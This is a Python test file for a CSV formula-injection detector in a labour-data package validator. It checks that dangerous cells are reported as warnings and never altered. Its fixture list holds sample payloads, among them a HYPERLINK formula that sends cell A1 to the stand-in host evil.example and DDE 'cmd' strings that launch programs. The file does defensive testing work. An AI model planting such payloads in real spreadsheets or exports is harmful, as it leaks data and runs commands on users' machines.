"""CSV injection: cells a spreadsheet would run as formulas are reported by validate, never altered."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kzlabour.injection import CODE, formula_problems, is_formula
from kzlabour.validation import validate_package
from tests.conftest import ROOT, tree_bytes

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "@SUM(A1:A9)",
    "+A1",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "- General Secretary",
    "\t=1+1",
    "\r@SUM(1)",
    "\uff1d1+1",  # full-width equals sign
    "\ufe66HYPERLINK(1)",  # small equals sign: NFKC folds it onto = too
    "=",  # preceded by nothing, but with a tab it is one
]
SAFE = [
    "+7 701 123 45 67",
    "+7-701-123-45-67",
    "+1 (202) 555-0100",
    "-5",
    "+1.5",
    "-0,75",
    "-",
    "--",
    "Sharan Burrow",
    "ITUC = International Trade Union Confederation",
    "e-mail: a@b.org",
    " =1",  # a leading space: spreadsheets take it as text
    "@",
    "",
]


@pytest.mark.parametrize("cell", FORMULAS[:-1])
def test_formulas_are_recognised(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize("cell", [*SAFE, FORMULAS[-1]])
def test_phone_numbers_numbers_and_text_are_not_formulas(cell: str) -> None:
    assert not is_formula(cell)


@given(st.from_regex(r"\+[1-9][0-9]{0,2}( ?\(?[0-9]{2,4}\)?)( ?-?[0-9]{2,4}){1,4}", fullmatch=True))
def test_no_phone_number_is_a_formula(phone: str) -> None:
    assert not is_formula(phone)


@given(st.text(min_size=1))
def test_every_equals_cell_is_a_formula(text: str) -> None:
    assert is_formula("=" + text)


@given(st.text())
def test_is_formula_never_raises(cell: str) -> None:
    assert is_formula(cell) in (True, False)


@given(st.text(min_size=1))
def test_the_first_character_filter_never_hides_a_formula(cell: str) -> None:
    """formula_problems asks `_may_be_formula` first (fast): it must hold for every formula."""
    from kzlabour.injection import _may_be_formula

    assert _may_be_formula(cell) or not is_formula(cell)


def test_a_formula_in_any_form_is_found_in_a_file(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    shutil.copytree(ROOT / "datapackage", package)
    _set_cell(package / "demands.csv", 1, "text", "\ufe66HYPERLINK(1)")
    assert [p.line for p in formula_problems(package)] == [2]


def _set_cell(path: Path, row: int, column: str, value: str) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows[row][rows[0].index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def test_validate_reports_formula_cells_by_file_row_and_column(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    shutil.copytree(ROOT / "datapackage", package)
    _set_cell(package / "demands.csv", 2, "text", '=HYPERLINK("http://evil.example")')
    _set_cell(package / "letter_parties.csv", 1, "phone", "+7 701 123 45 67")
    before = tree_bytes(package)
    report = validate_package(package)
    found = [p for p in report.problems if p.code == CODE]
    assert [(p.file, p.line, p.severity) for p in found] == [(str(package / "demands.csv"), 3, "warning")]
    assert found[0].message == (
        "column text: '=HYPERLINK(\"http://evil.example\")' would run as a formula in a spreadsheet"
    )
    assert found[0].hint == "kept as the source has it; open the CSV as text, or correct it at its source"
    assert report.ok  # a warning: the data is reported, not refused
    assert tree_bytes(package) == before  # and never altered


def test_the_published_package_has_no_formula_cells() -> None:
    assert formula_problems(ROOT / "datapackage") == []


def test_long_cells_are_shortened_in_the_message(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("a,b\nx,@" + "A" * 100 + "\n")
    [problem] = formula_problems(tmp_path)
    assert problem.message == f"column b: '@{'A' * 36}...' would run as a formula in a spreadsheet"
    assert problem.text().startswith(f"{tmp_path / 't.csv'}:2: warning: [csv-formula] column b:")


def test_unreadable_csv_is_left_to_the_package_validation(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_bytes(b"a\n\xff=1\n")
    assert formula_problems(tmp_path) == []
